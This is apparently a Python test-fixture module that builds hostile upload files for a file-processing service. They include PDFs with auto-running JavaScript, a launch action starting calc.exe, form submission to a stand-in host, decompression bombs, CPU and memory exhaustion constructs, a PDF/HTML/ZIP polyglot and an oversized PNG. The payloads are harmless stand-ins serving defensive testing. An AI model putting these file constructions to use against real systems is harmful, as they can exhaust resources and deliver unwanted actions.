"""Files that people upload, and files that nobody should; all of them made here, byte by byte where it matters."""

import hashlib
import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

SECRET = b'AUTHOR-OF-THE-ORIGINAL'
CONTENT = b'BT /F1 48 Tf 40 60 Td (Hello) Tj ET'


def stream(data: bytes, more: bytes = b'') -> bytes:
    return b'<</Length %d%b>>\nstream\n%b\nendstream' % (len(data), more, data)


def assembled(objects: dict[int, bytes], trailer: bytes = b'') -> bytes:
    """The objects as a PDF whose catalogue is object 1."""
    out, at = bytearray(b'%PDF-1.7\n'), {}
    for number, body in objects.items():
        at[number] = len(out)
        out += b'%d 0 obj\n%b\nendobj\n' % (number, body)
    begin, count = len(out), max(objects) + 1
    out += b'xref\n0 %d\n0000000000 65535 f \n' % count
    for number in range(1, count):
        out += b'%010d 00000 n \n' % at[number] if number in at else b'0000000000 00000 f \n'
    return bytes(
        out + b'trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n' % (count, trailer, begin)
    )  # fmt: skip


def pdf(
    content: bytes = CONTENT, *, root: bytes = b'', page: bytes = b'', box: bytes = b'0 0 200 150',
    more: dict[int, bytes] | None = None, trailer: bytes = b'', packed: bytes = b'', resources: bytes = b'',
) -> bytes:  # fmt: skip
    """One page that says Hello, and whatever is asked for beside it, from object 6 on."""
    return assembled(
        {
            1: b'<</Type/Catalog/Pages 2 0 R%b>>' % root,
            2: b'<</Type/Pages/Count 1/Kids[3 0 R]>>',
            3: b'<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%b>>%b>>'
            % (box, resources, page),
            4: stream(content, packed),
            5: b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
            **(more or {}),
        },
        trailer,
    )


def with_javascript() -> bytes:
    action = b'<</S/JavaScript/JS(app.alert\\("hello"\\))>>'
    return pdf(
        root=b'/OpenAction 6 0 R/Names<</JavaScript<</Names[(a)6 0 R]>>>>/AA<</WC 6 0 R>>', page=b'/AA<</O 6 0 R>>',
        more={6: action},
    )  # fmt: skip


def with_an_embedded_file() -> bytes:
    return pdf(
        root=b'/Names<</EmbeddedFiles<</Names[(evil.exe)6 0 R]>>>>',
        more={
            6: b'<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>',
            7: stream(b'MZ' + SECRET, b'/Type/EmbeddedFile'),
        },
    )  # fmt: skip


def with_actions() -> bytes:
    """Links that start a program and that lead elsewhere, and one that does it by itself."""
    launch = b'<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>'
    return pdf(
        root=b'/OpenAction 8 0 R', page=b'/Annots[6 0 R 7 0 R]',
        more={
            6: b'<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A 8 0 R>>',
            7: b'<</Type/Annot/Subtype/Link/Rect[50 50 90 90]/A<</S/URI/URI(https://evil.example/)>>>>',
            8: launch,
        },
    )  # fmt: skip


def with_a_form() -> bytes:
    """A field that shows a black square and sends itself somewhere."""
    look = stream(b'0 g 0 0 50 50 re f', b'/Type/XObject/Subtype/Form/BBox[0 0 50 50]')
    field = (
        b'<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(x)/F 4/Rect[0 0 50 50]/AP<</N 7 0 R>>'
        b'/A<</S/SubmitForm/F(https://evil.example/)>>>>'
    )
    return pdf(b'', root=b'/AcroForm<</Fields[6 0 R]>>', page=b'/Annots[6 0 R]', more={6: field, 7: look})


def with_metadata() -> bytes:
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>%b</a></x:xmpmeta>' % SECRET
    return pdf(
        root=b'/Metadata 7 0 R', trailer=b'/Info 6 0 R',
        more={6: b'<</Author(%b)/Title(%b)>>' % (SECRET, SECRET), 7: stream(xmp, b'/Type/Metadata/Subtype/XML')},
    )  # fmt: skip


def _rc4(key: bytes, data: bytes) -> bytes:
    box, j = list(range(256)), 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def encrypted(password: bytes) -> bytes:
    """The standard security handler, revision 2: forty bits, which every reader knows."""
    padding = bytes.fromhex('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A')
    padded, id_, rights = (password + padding)[:32], b'0123456789abcdef', -4
    owner = _rc4(hashlib.md5(padded).digest()[:5], padded)
    key = hashlib.md5(padded + owner + struct.pack('<i', rights) + id_).digest()[:5]
    of_object = hashlib.md5(key + (4).to_bytes(3, 'little') + b'\0\0').digest()[:10]
    handler = b'<</Filter/Standard/V 1/R 2/O<%b>/U<%b>/P %d>>' % (
        owner.hex().encode(), _rc4(key, padding).hex().encode(), rights,
    )  # fmt: skip
    hexed = id_.hex().encode()
    return pdf(_rc4(of_object, CONTENT), more={6: handler}, trailer=b'/Encrypt 6 0 R/ID[<%b><%b>]' % (hexed, hexed))


def with_pages(count: int) -> bytes:
    kids = b' '.join(b'%d 0 R' % number for number in range(3, 3 + count))
    page = b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 20 20]>>'
    return assembled(
        {
            1: b'<</Type/Catalog/Pages 2 0 R>>',
            2: b'<</Type/Pages/Count %d/Kids[%b]>>' % (count, kids),
            **dict.fromkeys(range(3, 3 + count), page),
        }
    )


def _bomb(letter: bytes, megabytes: int) -> bytes:
    """A valid zlib stream of so many megabytes of one letter, put together from one that was packed once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(letter * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b'\x78\xda' + one * megabytes + b'\x03\x00' + b'\0\0\0\0'


def decompression_bomb() -> bytes:
    """Eight gigabytes of a page's commands in a few kilobytes."""
    return pdf(zlib.compress(_bomb(b' ', 8192)), packed=b'/Filter[/FlateDecode/FlateDecode]')


def endless() -> bytes:
    """A large page whose every point is a calculation of thousands of steps; it takes hours and hardly any memory."""
    function = b'<</FunctionType 4/Domain[0 1 0 1]/Range[0 1]/Length %d>>\nstream\n{%b}\nendstream'
    steps = b'dup sin exch pop ' * 4000 + b'mul'
    shading = b'<</ShadingType 1/ColorSpace/DeviceGray/Matrix[2000 0 0 2000 0 0]/Function 6 0 R>>'
    return pdf(
        b'/S sh', box=b'0 0 2000 2000', resources=b'/Shading<</S 7 0 R>>',
        more={6: function % (len(steps) + 2, steps), 7: shading},
    )  # fmt: skip


def memory_hog() -> bytes:
    """A form that draws a form ten times that draws a form ten times, and so on."""
    forms = {
        number: stream(
            b'/N Do ' * 10 if number < 20 else b'0 0 m 100 100 l S ' * 100,
            b'/Type/XObject/Subtype/Form/BBox[0 0 200 150]/Resources<</XObject<</N %d 0 R>>>>' % (number + 1),
        )
        for number in range(10, 21)
    }
    return pdf(b'/N Do', resources=b'/XObject<</N 10 0 R>>', more=forms)


def polyglot() -> bytes:
    """A PDF, a web page and an archive at once."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, 'w') as made:
        made.writestr('evil.exe', SECRET)
    head, rest = pdf().split(b'\n', 1)
    page = b'<html><script>alert("hello")</script></html>'
    return head + b'\n%' + page + b'\n' + rest + archive.getvalue()


def picture(
    format: str = 'PNG', mode: str = 'RGB', size: tuple[int, int] = (60, 40), colour: Any = None, **more: Any
) -> bytes:
    made, out = Image.new(mode, size, colour or 0), io.BytesIO()
    made.save(out, format, **more)
    return out.getvalue()


def photograph(format: str = 'JPEG', size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    """More colours than a palette has."""
    bands = [Image.effect_noise(size, 80) for _ in range(3)]
    out = io.BytesIO()
    Image.merge('RGB', bands).save(out, format, **more)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))


def absurd_png(width: int = 60_000, height: int = 60_000) -> bytes:
    head = struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)
    data = _bomb(b'\0', 100)
    return b'\x89PNG\r\n\x1a\n' + _chunk(b'IHDR', head) + _chunk(b'IDAT', data) + _chunk(b'IEND', b'')


def png_with_a_script() -> bytes:
    return picture() + b'<script>alert("hello")</script>' + SECRET


def jpeg_with_notes() -> bytes:
    """A photograph taken upright (turned by its EXIF), with its author in three places."""
    notes = Image.Exif()
    notes[0x0112], notes[0x013B] = 6, SECRET.decode()
    return photograph('JPEG', (60, 40), exif=notes, comment=SECRET, icc_profile=SECRET)


def tiff(frames: int) -> bytes:
    out = io.BytesIO()
    each = [Image.new('L', (30 + n % 7, 20), n % 256) for n in range(frames)]
    each[0].save(out, 'TIFF', save_all=True, append_images=each[1:])
    return out.getvalue()
